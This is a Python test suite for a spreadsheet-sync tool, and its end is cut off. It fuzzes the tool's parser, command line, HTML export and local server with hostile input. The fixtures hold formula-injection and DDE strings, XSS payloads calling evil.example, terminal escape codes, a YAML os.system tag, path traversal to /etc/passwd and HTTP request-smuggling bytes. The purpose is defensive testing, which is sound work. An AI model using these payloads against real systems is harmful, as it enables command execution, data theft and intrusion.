"""People's text that is meant to do harm: wherever it is typed it stays text, and nobody else's figures change."""

from __future__ import annotations

import errno
import io
import json
import re
import socket
import unicodedata
from collections.abc import Callable, Iterator, Sequence
from contextlib import redirect_stderr, redirect_stdout
from dataclasses import dataclass, field
from datetime import UTC, date, datetime
from html.parser import HTMLParser
from pathlib import Path
from shutil import copyfile
from tempfile import TemporaryDirectory
from typing import Any
from urllib.parse import parse_qs, urlsplit

import openpyxl
import pytest
import requests
from hypothesis import Phase, given
from hypothesis import settings as chance
from hypothesis import strategies as st
from playwright.sync_api import Browser

from sheetsync import cli, closing, columns, export, history, prepare
from sheetsync import sync as weekly
from sheetsync.base import SNAPSHOT_COLUMNS
from sheetsync.local.app import Workbooks
from sheetsync.local.serve import CONNECTIONS, Server
from sheetsync.local.web import Asked, Site
from sheetsync.model import Moment, RawTab
from sheetsync.parse import parse
from sheetsync.periods import Period
from sheetsync.settings import Place
from tests import office
from tests.google.conftest import shorten_key
from tests.google.network import Fault, Handler, Network, key_file, says, well
from tests.office import Office
from tests.test_settings import LEAST, settings_or_positions

SIGNS = [
    '=IMPORTXML("http://evil.example/","//a")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    '";"x")&IMPORTDATA("http://evil.example/")&("',
    "<script>window.harmed=1;fetch('http://evil.example/x')</script>",
    '"><img src="http://evil.example/x" onerror="window.harmed=1">',
    "'-window.harmed-'</style></title><svg onload=window.harmed=1>",
    "javascript:window.harmed=1",
    "data:text/html,<script>window.harmed=1</script>",
    "\u202egnp.exe\u2066",
    "a\u200bb\u2060c\ufeff",
    "שלום {name} <b>",
    "Z" + "\u0301" * 90,
    "{0} {name} {",
    "%s %(x)d \\x1b[31m",
    "''!A1:B2' [bold red]rich[/] :bomb:",
]
"""Names that a configuration takes."""

COMMANDS = [
    "\x1b[31mred\x1b[0m\x1b[2J",
    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "\x9b31m\x90q\x9c",
    "a\rb\x08\x7f",
    "a\u2028b\u2029\u0085c",
    "line one\nline two\ttab",
]
"""What a configuration refuses in names; cells take it."""

LONG = "n" * 50_000
EVIL = [*SIGNS, *COMMANDS, LONG]


# --- (a) any values in any tab: nothing raises, nobody else's figures change -----------------------------------------


def holding(tabs: dict[str, list[list[Any]]]) -> Fault:
    """Answers a read of cells with any JSON as the cells of these tabs; other tabs are blank."""

    def answered(handler: Handler) -> None:
        asked = parse_qs(urlsplit(handler.path).query)["ranges"]
        says(200, {"valueRanges": [{"range": each, "values": tabs.get(each[1:-1], [])} for each in asked]})(handler)

    return answered


HUGE = int("9" * 400)
PLAIN: list[Any] = [
    *(None, "", True, False, 0, -0.0, 1, -1, 1e308, -1e308, 5e-324, float("nan"), float("inf"), HUGE, -HUGE, 2**53 + 1),
    *(
        46349.5,
        2_958_465,
        2_958_466,
        [],
        {},
        [[1]],
        {"formulaValue": "=1"},
        "\x00",
        "\ud800",
        "a\udc00\udfff",
        "\ufffe",
    ),
    *("#REF!", "Loading...", "٣", "1e400", "1.234", "31.02.2026", "9999-12-31", "2026-11-26T99:99", "0x10", "NaN"),
    *("0001-01", "0001-W01", "9999-12", "9999-W52", "9999-Q4", "2026-W99", "row", "plan", "unread", "superseded"),
    *("closed", "kpi.payout", "base.active_a.clients", "revenue", "Sales", "(", "\\", ".*"),
]
ANY_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=6),
    lambda inner: st.lists(inner, max_size=2) | st.dictionaries(st.text(max_size=2), inner, max_size=2),
    max_leaves=4,
)
CELLS = st.sampled_from([*EVIL, *PLAIN]) | ANY_JSON
BEFORE = ["2026-W46", "2026-W47", "2026-10"]


def tables(head: Sequence[str], right: dict[str, Any], *, rows: int) -> st.SearchStrategy[list[list[Any]]]:
    """Rows of any cells, some too long or too short, some with what is right in a few columns."""
    told = st.lists(CELLS, max_size=len(head) + 3)
    near = st.tuples(
        st.lists(CELLS, min_size=len(head), max_size=len(head)), st.sets(st.sampled_from(sorted(right)))
    ).map(lambda drawn: [right[name] if name in drawn[1] else drawn[0][at] for at, name in enumerate(head)])
    return st.lists(told | near, min_size=rows // 3, max_size=rows)


ACTIONS, BASE = columns.TITLES["actions"], columns.TITLES["base"]
HEADS = {"Actions": ACTIONS, "Base": BASE}
MALLORY = "Mallory"
OTHERS = [office.ANNA, office.BORIS]
PEOPLE = [office.ANNA, {"name": office.BORIS, "aliases": ["Boris"]}, MALLORY]
NOW = datetime(2026, 11, 26, 12, tzinfo=UTC)
OUR_OWN: dict[str, tuple[Sequence[str], dict[str, Any]]] = {
    "History": (history.COLUMNS, {"period": "2026-W47", "manager": MALLORY, "measure": "meetings", "status": "closed"}),
    "Snapshots": (SNAPSHOT_COLUMNS, {"client": "Acme", "manager": MALLORY, "from_period": "2026-W46"}),
    "Closed": (closing.COLUMNS, {"record": "period", "period": "2026-W47", "manager": MALLORY, "date": 46_339.0}),
}
SOUND: dict[str, list[list[Any]]] = {
    "Actions": [
        [46_349, office.ANNA, "Meeting held", "Acme", "Hall", "minutes 1"],
        [46_350, office.BORIS, "Payment", "Beta", "Yard", "invoice 7", 1, 1000, 200],
    ],
    "Base": [
        ["Acme", "Hall", office.ANNA, "Active A", "offer", 46_360, 5000],
        ["Beta", "Yard", office.BORIS, "Warm", "", "", 70],
    ],
}


@pytest.fixture(scope="module")
def prepared(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A workbook with our tabs, each with room for whatever it will be said to hold, and its key."""
    file = tmp_path_factory.mktemp("prepared") / "book.sheet"
    place = Place("local", path=file)
    prepare.init(office.configured(managers=PEOPLE), place, now=NOW)
    made = Office(file)
    for tab in made.metadata()["sheets"]:
        wanted = {
            "sheetId": tab["properties"].get("sheetId", 0),
            "gridProperties": {"rowCount": 3000, "columnCount": 40},
        }
        made.apply({"updateSheetProperties": {"properties": wanted, "fields": "gridProperties(rowCount,columnCount)"}})
    with Server(file, credentials_out=file.with_name("key.json")) as server:
        shorten_key(server)
    return file


def synced(prepared: Path, tabs: dict[str, list[list[Any]]]) -> tuple[dict[Any, Any], list[Any]]:
    """The figures of Anna and Boris after a sync that read these tabs, and the batches that the workbook took of it."""
    with TemporaryDirectory() as name:
        folder = Path(name)
        for each in ("book.sheet", "key.json"):
            copyfile(prepared.with_name(each), folder / each)
        with (
            Server(folder / "book.sheet", credentials_out=folder / "key.json") as server,
            Network(server.url) as network,
        ):
            key = key_file(server, folder / "network.json", f"{network.url}/token")
            network.faults += [well, holding(tabs)]
            settings = office.configured(managers=PEOPLE, workbook={"credentials": str(key)})
            done = weekly.sync(settings, Place("loopback", key=server.spreadsheet_id, base=network.url), now=NOW)
            batches = [json.loads(seen.body) for seen in network.api if seen.method == "POST"]
    assert batches
    rows = done.report.figures[done.report.figures["manager"].isin(OTHERS)]
    return {(row["manager"], row["measure"]): repr(row["actual"]) for row in rows.to_dict("records")}, batches


RIGHT = {"Date": 46_350, "Manager": MALLORY, "Action": "Meeting held", "Evidence": "x1"}
RIGHT_IN_BASE = {"Manager": MALLORY, "Category": "Active A", "Expected payment": 46_360}


@given(actions=tables(ACTIONS, RIGHT, rows=12), base=tables(BASE, RIGHT_IN_BASE, rows=12), place=st.integers(0, 2))
def test_rows_between_other_rows_change_nothing_of_what_those_say(
    actions: list[list[Any]], base: list[list[Any]], place: int
) -> None:
    settings = office.configured(managers=PEOPLE)
    moment = Moment(Period.parse("2026-W48"), date(2026, 11, 26), date(2026, 11, 26), date(2026, 11, 26), NOW)
    said = []
    both: list[dict[str, list[list[Any]]]] = [{"Actions": [], "Base": []}, {"Actions": actions, "Base": base}]
    for hostile in both:
        raw = {
            tab: [
                [*columns.TITLES["actions" if tab == "Actions" else "base"]],
                *rows[:place],
                *hostile[tab],
                *rows[place:],
            ]
            for tab, rows in SOUND.items()
        }
        tabs = {tab.lower(): [RawTab(tab, rows)] for tab, rows in raw.items()}
        ledger = parse(tabs, settings, moment, "en_US")
        frames = (frame[frame["manager"].isin(OTHERS)].drop(columns="row") for frame in (ledger.actions, ledger.base))
        said.append([frame.to_dict("records") for frame in frames])
    assert [len(rows) for rows in said[0]] == [2, 2]
    assert repr(said[1]) == repr(said[0])


@pytest.fixture(scope="module")
def expected(prepared: Path) -> dict[Any, Any]:
    """The figures of Anna and Boris where nobody else types anything."""
    figures, _ = synced(prepared, {"Actions": [[*ACTIONS], *SOUND["Actions"]], "Base": [[*BASE], *SOUND["Base"]]})
    assert figures[office.ANNA, "meetings"] == "1.0"
    return figures


@chance(max_examples=4, phases=(Phase.generate,))
@given(data=st.data())
def test_any_cells_in_any_tab_never_stop_a_sync_nor_change_anybody_elses_figures(
    prepared: Path, expected: dict[Any, Any], data: st.DataObject
) -> None:
    rows = {"Actions": tables(ACTIONS, RIGHT, rows=12), "Base": tables(BASE, RIGHT_IN_BASE, rows=12)}
    tabs = {tab: [[*(ACTIONS if tab == "Actions" else BASE)], *data.draw(rows[tab]), *SOUND[tab]] for tab in rows}
    for tab, (head, near) in OUR_OWN.items():
        tabs[tab] = [[*head]] * data.draw(st.integers(0, 1)) + data.draw(tables(head, near, rows=12))
    for tab in ("Dashboard", "Guide", "Issues"):
        tabs[tab] = data.draw(st.lists(st.lists(CELLS, max_size=9), max_size=6))
    found, batches = synced(prepared, tabs)
    assert found == expected
    assert [text for text in formulas(batches) if not OURS.fullmatch(text)] == []


def test_every_sign_alone_in_every_cell_of_every_tab_stops_no_sync(prepared: Path, expected: dict[Any, Any]) -> None:
    """The whole corpus in one go, in each column."""
    signs = [*EVIL, *PLAIN]
    tabs: dict[str, list[list[Any]]] = {}
    for tab, head, right in (("Actions", ACTIONS, RIGHT), ("Base", BASE, RIGHT_IN_BASE)):
        cornered = [[sign if at == place else right.get(name, "x") for at, name in enumerate(head)]
                    for place in range(len(head)) for sign in signs]  # fmt: skip
        tabs[tab] = [[*head], *cornered, *SOUND[tab]]
    for tab, (own, near) in OUR_OWN.items():
        tabs[tab] = [[*own], *([sign if at == place else near.get(name) for at, name in enumerate(own)]
                               for place in range(len(own)) for sign in signs)]  # fmt: skip
    for tab in ("Dashboard", "Guide", "Issues"):
        tabs[tab] = [[sign] * 8 for sign in signs if sign != LONG]
    found, batches = synced(prepared, tabs)
    assert found == expected
    assert [text for text in formulas(batches) if not OURS.fullmatch(text)] == []


OURS = re.compile(
    r'=(?:HYPERLINK\("#gid=\d+&range=[A-Z]+\d+";(?:"[^"<>=]*"|[A-Z]+\d+)\)'
    r"|SPARKLINE\((?:\$?[A-Z]+\$?\d+[:;)]){4})"
)
"""The formulas that the program writes: none has a word that people typed."""


def formulas(found: Any) -> Iterator[str]:
    """Every formula that any JSON writes into a cell."""
    if isinstance(found, dict):
        for name, value in found.items():
            if name == "formulaValue":
                yield value
            else:
                yield from formulas(value)
    elif isinstance(found, list):
        for each in found:
            yield from formulas(each)


# --- (a) any configuration: positions, never a traceback -------------------------------------------------------------

YAML: dict[str, str | bytes] = {
    "merge keys": LEAST + "base: &b {categories: []}\ndepartment: {<<: *b, name: x}\n",
    "a merge of a list": LEAST + "department: {<<: [1, 2], name: x}\n",
    "keys that repeat through an anchor": LEAST + "actions: &a {call: {}}\nindicators: *a\nactions: *a\n",
    "an anchor of itself": LEAST + "actions: &a {call: *a}\n",
    "a bomb as keys": LEAST + "? &a [&b [x, x], *b, *b]\n: {? *a : 1, ? *b : 2}\n",
    "tags": LEAST + "department: !!binary aGk=\nactions: !!set {a}\nindicators: !!omap [a: 1]\nkpi: !<!x> {}\n",
    "a python tag": LEAST + "? !!python/object/new:os.system [ls]\n: !!python/name:os.system x\n",
    "a timestamp": LEAST + "department: {name: !!timestamp 9999-99-99}\n",
    "huge": LEAST + f"department: {{close_after_days: {'9' * 9000}, name: 1e999}}\n",
    "a huge target": LEAST.replace("[]", f"[{{from: 2026-01-01, per: week, default: {{meetings: {'9' * 500}}}}}]"),
    "not a number": LEAST.replace("[]", "[{from: .nan, per: .inf, default: {meetings: -.inf, offers: .NaN}}]"),
    "deep": LEAST + "actions: " + "{a: " * 5000 + "1" + "}" * 5000,
    "deep blocks": LEAST + "".join(f"{' ' * n}a:\n" for n in range(400)),
    "not UTF-8": LEAST.encode() + b"department: {name: \xc3\x28 \xed\xa0\x80}\n",
    "a byte order mark in the middle": LEAST + "\ufeffdepartment: {}\n",
    "UTF-32": LEAST.encode("utf-32"),
    "NUL": LEAST.encode() + b"\x00" * 500,
    "10 MB": b"a: " + b"x" * 10_000_000,
    "10 MB of nothing": b" " * 10_000_000,
    "a directive": "%YAML 9.9\n%TAG ! tag:evil.example,2026:\n---\n" + LEAST,
    "a file of colons": ": " * 50_000,
    "a key of 1100 characters": LEAST + "k" * 1100 + ": 1\n",
    "a pattern that backtracks": LEAST + 'actions: {call: {evidence: required, evidence_patterns: ["(a+)+$", "("]}}\n',
}


@pytest.mark.parametrize("name", YAML)
def test_any_yaml_is_settings_or_positions(tmp_path: Path, name: str) -> None:
    settings_or_positions(tmp_path, YAML[name])


@pytest.mark.parametrize("where", ["manager", "alias", "tab", "department", "label", "what", "category"])
def test_any_text_in_a_configuration_is_taken_or_has_its_line(tmp_path: Path, where: str) -> None:
    made: dict[str, Callable[[str], dict[str, Any]]] = {
        "manager": lambda text: {"managers": [text]},
        "alias": lambda text: {"managers": [{"name": "Anna", "aliases": [text]}]},
        "tab": lambda text: {"workbook": {"spreadsheet": "local:x", "tabs": {"history": text, "actions": [text]}}},
        "department": lambda text: {"department": {"name": text, "currency": text}},
        "label": lambda text: {"actions": {"x": {"label": {"ru": text}}}, "indicators": {"n": {"count": ["x"]}}},
        "what": lambda text: {"actions": {"x": {"what": text, "evidence_patterns": [text]}}},
        "category": lambda text: {"base": {"categories": [{"id": text, "label": text, "probability": text}]}},
    }
    usual = {"workbook": {"spreadsheet": "local:x"}, "managers": ["Anna"], "targets": []}
    for text in [*EVIL, "\ud800", "\x00"]:
        settings_or_positions(tmp_path, json.dumps({**usual, **made[where](text)}, indent=1))


# --- (a) any bytes on the port of `serve` ----------------------------------------------------------------------------

HOST = b"Host: 127.0.0.1\r\n"
POST = b"POST /token HTTP/1.1\r\n" + HOST
CHUNKED = POST + b"Transfer-Encoding: chunked\r\n\r\n"
REQUESTS = {
    "half a line": b"GET / HT",
    "no host": b"GET / HTTP/1.1\r\n\r\n",
    "nothing": b"",
    "blank lines": b"\r\n" * 50,
    "zeros": b"\0" * 5000,
    "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(range(200)),
    "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "HTTP/0.9": b"GET /\r\n",
    "a length below 0": POST + b"Content-Length: -5\r\n\r\nabc",
    "a length that is too long": POST + b"Content-Length: 500\r\n\r\nabc",
    "a huge length": POST + b"Content-Length: 99999999999999999999\r\n\r\nabc",
    "a length in Arabic": POST + "Content-Length: ٣\r\n\r\nabc".encode(),
    "two lengths": POST + b"Content-Length: 3\r\nContent-Length: 4\r\n\r\nabcd",
    "a length and pieces": POST + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /\r\n\r\n",
    "pieces of no length": CHUNKED + b"zzzz\r\nabc\r\n0\r\n\r\n",
    "pieces below 0": CHUNKED + b"-5\r\nabc\r\n0\r\n\r\n",
    "huge pieces": CHUNKED + b"ffffffffffffffffff\r\nabc",
    "half a piece": CHUNKED + b"5\r\nab",
    "other pieces": POST + b"Transfer-Encoding: gzip, chunked\r\n\r\nxx",
    "10,000 headers": b"GET / HTTP/1.1\r\n" + HOST + b"".join(b"X-%d: a\r\n" % n for n in range(10_000)) + b"\r\n",
    "a header of 1 MB": b"GET / HTTP/1.1\r\n" + HOST + b"X: " + b"a" * 1_000_000 + b"\r\n\r\n",
    "a path of 300 kB": b"GET /" + b"a" * 300_000 + b" HTTP/1.1\r\n" + HOST + b"\r\n",
    "a path of 60 kB": b"GET /v4/spreadsheets/" + b"%41" * 20_000 + b" HTTP/1.1\r\n" + HOST + b"\r\n",
    "many questions": b"GET /?" + b"a&" * 20_000 + b" HTTP/1.1\r\n" + HOST + b"\r\n",
    "50 requests in one": (b"GET /favicon.ico HTTP/1.1\r\n" + HOST + b"\r\n") * 50,
    "up and out": b"GET /page/../../../../etc/passwd HTTP/1.1\r\n" + HOST + b"\r\n",
    "up and out, quoted": b"GET /page/%2e%2e%2f%2e%2e%2fetc%2fpasswd HTTP/1.1\r\n" + HOST + b"\r\n",
    "NUL in the path": b"GET /page/%00.js HTTP/1.1\r\n" + HOST + b"\r\n",
    "no UTF-8": b"GET /v4/spreadsheets/%ff%fe\xff HTTP/1.1\r\n" + HOST + b"\r\n",
    "a line's end in the path": b"GET /%0d%0aSet-Cookie:x=1 HTTP/1.1\r\n" + HOST + b"\r\n",
    "another server": b"GET http://evil.example/ HTTP/1.1\r\n" + HOST + b"\r\n",
    "a tunnel": b"CONNECT evil.example:443 HTTP/1.1\r\n" + HOST + b"\r\n",
    "another version": b"GET / HTTP/9.9\r\n" + HOST + b"\r\n",
    "a method of bytes": b"\x01\x02 / HTTP/1.1\r\n" + HOST + b"\r\n",
    "no colon": b"GET / HTTP/1.1\r\n" + HOST + b"nocolon\r\n\r\n",
    "two hosts": b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nHost: evil.example\r\n\r\n",
    "half a host": b"GET / HTTP/1.1\r\nHost: [::\r\n\r\n",
    "a token of bytes": b"GET /v4/spreadsheets/x HTTP/1.1\r\n" + HOST + b"Authorization: Bearer \xff.\x80.\xfe\r\n\r\n",
    "a web socket": b"GET / HTTP/1.1\r\n" + HOST + b"Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n",
    "a batch of nothing": b"POST /batch HTTP/1.1\r\n" + HOST + b'Content-Type: multipart/mixed; boundary="\r\n\r\n',
    "deep JSON": b"POST /v4/spreadsheets HTTP/1.1\r\n" + HOST + b"Content-Length: 200000\r\n\r\n" + b"[" * 200_000,
    "a form of bytes": POST + b"Content-Length: 22\r\n\r\ngrant_type=%ff&\xff\xfe=\x80",
}
LEAKED = re.compile(rb"Traceback|site-packages|sheetsync/|\.py\b|book\.sheet|root:|secret-folder")


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    with Server(tmp_path_factory.mktemp("secret-folder") / "book.sheet", page=export.served("en")) as running:
        yield running


def told(server: Server, raw: bytes) -> bytes:
    """What the server answers to these bytes, up to where it closes."""
    port = int(server.url.rpartition(":")[2])
    answer = b""
    with socket.create_connection(("127.0.0.1", port), timeout=20) as line:
        try:
            line.sendall(raw)
            line.shutdown(socket.SHUT_WR)
            while piece := line.recv(65_536):
                answer += piece
        except OSError as error:  # it has heard enough; an answer that does not come is none of these
            if error.errno not in (errno.ECONNRESET, errno.EPIPE, errno.ENOTCONN):
                raise
    return answer


def answers(server: Server) -> bool:
    """Whether a good request gets its page."""
    return requests.get(server.spreadsheet_url, timeout=20).status_code == 200


@pytest.mark.parametrize("name", REQUESTS)
def test_any_bytes_on_the_port_take_nothing_down_and_learn_nothing(server: Server, name: str) -> None:
    answer = told(server, REQUESTS[name])
    assert not LEAKED.search(answer), answer[:500]
    assert not answer.startswith(b"HTTP/1.1 5") or b" 501 " in answer[:20], answer[:500]
    assert b"\r\nSet-Cookie" not in answer
    assert answers(server)


@given(of=st.sampled_from(sorted(REQUESTS)), at=st.floats(0, 1), gone=st.integers(0, 9), new=st.binary(max_size=9))
def test_slips_in_requests_take_nothing_down(server: Server, of: str, at: float, gone: int, new: bytes) -> None:
    whole = REQUESTS[of][:2000]
    place = int(at * len(whole))
    answer = told(server, whole[:place] + new + whole[place + gone :])
    assert not LEAKED.search(answer), answer[:500]
    assert answer[9:12] not in (b"500", b"502", b"503")
    assert answers(server)


def test_half_requests_that_are_held_leave_room_for_good_ones(server: Server) -> None:
    port = int(server.url.rpartition(":")[2])
    held = [socket.create_connection(("127.0.0.1", port), timeout=20) for _ in range(CONNECTIONS // 2)]
    for line in held:
        line.sendall(POST + b"Content-Length: 500\r\n\r\nabc")
    assert answers(server)
    for line in held:
        line.close()


# --- (b) a hostile workbook through every output ---------------------------------------------------------------------


@dataclass
class Printed:
    """What a command said."""

    code: int
    out: str
    err: str


@dataclass
class Hostile:
    """A workbook whose people, tabs, columns and cells are all hostile, made and synced by the command line."""

    folder: Path
    printed: dict[str, Printed] = field(default_factory=dict)

    @property
    def office(self) -> Office:
        return Office(self.folder / "book.sheet")

    def run(self, *arguments: str, terminal: bool = False) -> Printed:
        """A command line in this process, with or without a terminal at its end."""
        out, err, code = io.StringIO(), io.StringIO(), 0
        config = () if arguments[0] == "copy" else ("--config", str(self.folder / "targets.yaml"))
        with pytest.MonkeyPatch.context() as patched, redirect_stdout(out), redirect_stderr(err):
            patched.chdir(self.folder)
            patched.setenv("FORCE_COLOR" if terminal else "NO_COLOR", "1")
            patched.setenv("COLUMNS", "100")
            try:
                cli.main([*arguments, *config])
            except SystemExit as end:
                code = int(end.code or 0)
        printed = Printed(code, out.getvalue(), err.getvalue())
        self.printed[" ".join((*arguments, "on a terminal" * terminal)).strip()] = printed
        assert "should not have happened" not in printed.err, printed.err
        assert code in (0, 1), printed.err + printed.out
        return printed


TITLES = [title[:90] for title in SIGNS[:9]]
NAMES = SIGNS[:9]


def _configuration() -> dict[str, Any]:
    actions = {f"act{n}": {"label": sign, "evidence": "required", "what": sign} for n, sign in enumerate(NAMES)}
    indicators: dict[str, Any] = {
        f"ind{n}": {"label": sign, "count": [f"act{n}"], "headline": n < 5} for n, sign in enumerate(NAMES)
    }
    indicators["money"] = {"label": SIGNS[4], "sum": "Amount", "of": ["act3"]}
    return {
        "workbook": {
            "spreadsheet": "local:book.sheet",
            "tabs": {"actions": ["Log *"], "base": TITLES[5], "guide": TITLES[4], "issues": TITLES[0],
                     "history": TITLES[6], "dashboard": TITLES[7], "snapshots": TITLES[8], "closed": TITLES[1]},
            "columns": {"Comment": SIGNS},
        },
        "department": {"name": f"{SIGNS[6]} all", "period": "week"},
        "managers": [{"name": sign, "aliases": [f"{sign} alias"]} for sign in NAMES],
        "actions": actions,
        "indicators": indicators,
        "base": {"categories": [
            {"id": f"cat{n}", "label": sign, "probability": 0.5, **({"when": {"stage": sign}} if n < 3 else {})}
            for n, sign in enumerate(SIGNS[:4])
        ]},
        "targets": [{"from": "2020-01-01", "per": "week", "default": {f"ind{n}": 5 for n in range(len(NAMES))}}],
    }  # fmt: skip


def _day(back: int) -> int:
    return (date.today() - date(1899, 12, 30)).days - back


def _typed(log: Sequence[str]) -> tuple[list[list[Any]], list[list[Any]]]:
    """Rows of a log and of the base with every sign in every place."""
    sound = [[_day(back), NAMES[n % 9], NAMES[n // 9], sign, sign, f"{back} {sign}"[:50_000], 1, 100, "", sign, ""]
             for back in (0, 7) for n, sign in enumerate(EVIL)]  # fmt: skip
    odd = [[sign if at == n % 3 else usual for at, usual in enumerate([_day(0), SIGNS[4], SIGNS[0], "c", "d", f"e{n}"])]
           + [sign] * 5 for n, sign in enumerate(SIGNS + COMMANDS)]  # fmt: skip
    base = [[sign, sign, NAMES[n % 9], NAMES[n % 4], sign, _day(-20), 5000 + n, 2, 300, _day(60), _day(40), sign]
            for n, sign in enumerate(EVIL)]  # fmt: skip
    return [*sound, *odd], [*base, *([sign] * len(log) for sign in COMMANDS)]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Hostile:
    """The workbook after init, a sync, a close and another sync; each command once on a terminal and once without."""
    made = Hostile(tmp_path_factory.mktemp("hostile"))
    (made.folder / "targets.yaml").write_text(json.dumps(_configuration(), ensure_ascii=False, indent=1), "utf-8")
    book = Workbooks.open(made.folder / "book.sheet")
    book.create({"properties": {"title": SIGNS[7]}, "sheets": [{"properties": {"title": f"Log {SIGNS[4]}"}}]})
    book.close()
    made.run("init")
    actions, base = _typed(columns.TITLES["base"])
    made.office.type(f"Log {SIGNS[4]}", 1, actions)
    made.office.type(TITLES[5], 1, base)
    made.office.type(f"Log {SIGNS[4]}", 0, [[*columns.TITLES["actions"], *EVIL[:10]]])
    for title in (SIGNS[6], SIGNS[10]):
        made.office.apply({"addSheet": {"properties": {"title": f"Log {title}"[:90]}}})
        made.office.type(f"Log {title}"[:90], 0, [[*columns.TITLES["actions"]], *actions[:9]])
    made.run("check", "--verbose", terminal=True)
    made.run("check", "--verbose")
    made.run("check", "--json")
    made.run("sync", "--dry-run", "--json")
    made.run("sync", "--period", "last")
    made.run("close", "--period", "last", "--json")
    made.office.type(
        f"Log {SIGNS[4]}", 24, [[_day(7), SIGNS[2], SIGNS[2], sign, sign, f"late {sign}"[:50_000]] for sign in EVIL]
    )
    made.run("sync", "--verbose", terminal=True)
    again = made.run("sync", "--json", "--quiet")
    assert json.loads(again.out)["changed"] is False
    made.run("close", "--period", "last", "--accept", "--dry-run", "--verbose", terminal=True)
    made.run("calibrate", terminal=True)
    made.run("copy", "local:book.sheet", "local:copied.sheet", terminal=True)
    for tab in ("dashboard", "issues", "guide", "history", TITLES[5], f"Log {SIGNS[4]}", f"Log {SIGNS[6]}"):
        made.run("export", "--tab", tab, terminal=True)
    return made


STYLED = re.compile(r"\x1b\[(?!31m)(?:[0-9;]*m|\?25[lh]|2K|1A)|\r(?=\x1b\[(?:2K|1A))")


def test_nothing_that_people_typed_commands_a_terminal(hostile: Hostile) -> None:
    """On a terminal there are colours of ours alone, elsewhere not even those; --json is ASCII."""
    assert len(hostile.printed) >= 15
    for command, printed in hostile.printed.items():
        left = printed.out + printed.err
        if command.endswith("on a terminal"):
            left = STYLED.sub("", left)
        obeyed = {sign for sign in left if unicodedata.category(sign) in ("Cc", "Cf", "Cs", "Zl", "Zp")} - {"\n"}
        assert obeyed == set(), (command, obeyed)
        if "--json" in command:
            assert printed.out.isascii()
            assert json.loads(printed.out)
        else:
            assert len(max(printed.out.split("\n"), key=len)) < 2_000, command


HELD = (
    "sheets(properties,conditionalFormats,charts,"
    "data.rowData.values(userEnteredValue,dataValidation,hyperlink,textFormatRuns))"
)


def _everything(book: Path) -> dict[str, Any]:
    workbooks = Workbooks.open(book)
    answer = workbooks.handle("GET", f"/v4/spreadsheets/{workbooks.keys()[0]}", [("fields", HELD)], b"")
    found: dict[str, Any] = json.loads(answer.body)
    workbooks.close()
    return found


@pytest.mark.parametrize("book", ["book.sheet", "copied.sheet"])
def test_nothing_that_people_typed_becomes_a_formula(hostile: Hostile, book: str) -> None:
    whole = _everything(hostile.folder / book)
    written = list(formulas(whole))
    assert len(written) > 50
    assert [text for text in written if not OURS.fullmatch(text)] == []
    text = json.dumps([[sheet.get("conditionalFormats"), sheet.get("charts")] for sheet in whole["sheets"]])
    rules = [cell["dataValidation"]["condition"] for cell in _cells(whole) if "dataValidation" in cell]
    listed = {str(value.get("userEnteredValue", "")) for rule in rules for value in rule.get("values", [])}
    guide = "'" + TITLES[4].replace("'", "''") + "'"
    assert listed
    assert [
        each for each in listed if not re.fullmatch(re.escape("=" + guide) + r"!\$[A-Z]+\$\d+:\$[A-Z]+\$\d+", each)
    ] == []
    assert "IMPORTXML" not in text.replace(json.dumps(TITLES[0]), "")
    for url in re.findall(r'"(?:hyperlink|uri)": ?"([^"]*)', json.dumps(whole)):
        assert url.startswith(("#gid=", "http")), url


def _cells(whole: dict[str, Any]) -> Iterator[dict[str, Any]]:
    for sheet in whole["sheets"]:
        for block in sheet.get("data", []):
            for row in block.get("rowData", []):
                yield from row.get("values", [])


def test_what_people_typed_stands_in_our_tabs_as_they_typed_it(hostile: Hostile) -> None:
    whole = _everything(hostile.folder / "book.sheet")
    ours = [sheet for sheet in whole["sheets"] if sheet["properties"].get("sheetId", 0) // 1000 == 700]
    shown = {cell.get("userEnteredValue", {}).get("stringValue") for cell in _cells({"sheets": ours})}
    assert len(ours) == 7
    assert [sign for sign in SIGNS if sign not in shown] == []


LEADING = ("href", "src", "xlink:href", "action", "srcset")


class Tags(HTMLParser):
    """The tags of a page, their attributes, and where links lead."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links |= {
            value or "" for name, value in attrs if name in ("href", "src", "xlink:href", "action", "srcset")
        }


def test_an_exported_page_runs_nothing_and_asks_for_nothing(hostile: Hostile, chromium: Browser) -> None:
    files = sorted(hostile.folder.glob("*.html"))
    assert len(files) == 7
    page = chromium.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(dialog.message))
    for file in files:
        tags = Tags()
        tags.feed(file.read_text("utf-8"))
        assert tags.tags.isdisjoint({"script", "img", "iframe", "object", "embed", "base", "form", "link"}), file
        assert [name for name in tags.attributes if name.startswith("on")] == [], file
        assert [link for link in tags.links if not link.startswith(("#", "data:font/", "data:image/png"))] == [], file
        page.goto(file.as_uri())
        assert page.evaluate("window.harmed") is None
    page.close()
    assert [url for url in asked if not url.startswith(("file:", "data:"))] == []


def test_the_page_of_serve_runs_nothing_and_asks_nobody_else(hostile: Hostile, chromium: Browser) -> None:
    with Server(hostile.folder / "book.sheet", page=export.served("en")) as served:
        page = chromium.new_page()
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.on("dialog", lambda dialog: asked.append(dialog.message))
        page.on("console", lambda said: asked.append(said.text) if said.type == "error" else None)
        for gid in (700_001, 700_003, 700_004, 0):
            page.goto(f"{served.spreadsheet_url}?gid={gid}")
            page.wait_for_function("() => document.body.innerText.includes('evil.example')")
